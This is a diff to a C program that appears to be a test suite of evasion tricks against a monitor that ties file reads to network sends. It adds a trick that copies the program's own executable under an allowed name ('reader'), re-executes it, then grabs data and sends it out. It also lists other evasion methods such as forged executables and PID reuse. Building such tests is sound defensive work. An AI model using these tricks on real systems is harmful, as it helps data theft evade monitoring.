@@ -25,6 +25,30 @@ static void forged_names(void)
 	send_out(loot, loot_len);
 }
 
+/* Under a listed program's name, but not in its place. */
+static void listed_name_copied(void)
+{
+	char *other, data[65536];
+	int from, to;
+	ssize_t len;
+
+	if (strcmp(getenv("EVADE_COPY") ?: "", "made")) {
+		if (asprintf(&other, "%s/reader", own("work")) < 0)
+			_exit(3);
+		must(mkdir(own("work"), 0700), "mkdir");
+		from = must(open("/proc/self/exe", O_RDONLY | O_CLOEXEC), "open");
+		to = must(open(other, O_CREAT | O_WRONLY | O_CLOEXEC, 0700), "create");
+		while ((len = must(read(from, data, sizeof(data)), "read")) > 0)
+			must(write(to, data, (size_t)len), "write");
+		close(to);
+		must(setenv("EVADE_COPY", "made", 1), "setenv");
+		execl(other, "reader", trick_name, NULL);
+		cant("exec");
+	}
+	grab();
+	send_out(loot, loot_len);
+}
+
 /* The program's own memory is moved away from its file, so that the kernel lets another be named in its place. */
 static void unmap_own_program(void)
 {
@@ -415,11 +439,27 @@ static void slow_outside_window(void)
 }
 
 static const struct trick tricks[] = {
-	TRICK(forged_names),  TRICK(forged_exe),	 TRICK(child_sends),	    TRICK(double_fork),
-	TRICK(new_session),   TRICK(exec_chain),	 TRICK(vfork_reads),	    TRICK(vfork_sends),
-	TRICK(clone_parent),  TRICK(shared_descriptors), TRICK(parent_sends),	    TRICK(parent_sends_other_session),
-	TRICK(thread_hop),    TRICK(leader_gone),	 TRICK(pid_reused),	    TRICK(pid_namespace),
-	TRICK(noise_between), TRICK(crowd_between),	 TRICK(slow_inside_window), TRICK(slow_outside_window),
+	TRICK(forged_names),
+	TRICK(listed_name_copied),
+	TRICK(forged_exe),
+	TRICK(child_sends),
+	TRICK(double_fork),
+	TRICK(new_session),
+	TRICK(exec_chain),
+	TRICK(vfork_reads),
+	TRICK(vfork_sends),
+	TRICK(clone_parent),
+	TRICK(shared_descriptors),
+	TRICK(parent_sends),
+	TRICK(parent_sends_other_session),
+	TRICK(thread_hop),
+	TRICK(leader_gone),
+	TRICK(pid_reused),
+	TRICK(pid_namespace),
+	TRICK(noise_between),
+	TRICK(crowd_between),
+	TRICK(slow_inside_window),
+	TRICK(slow_outside_window),
 };
 
 int main(int argc, char **argv)
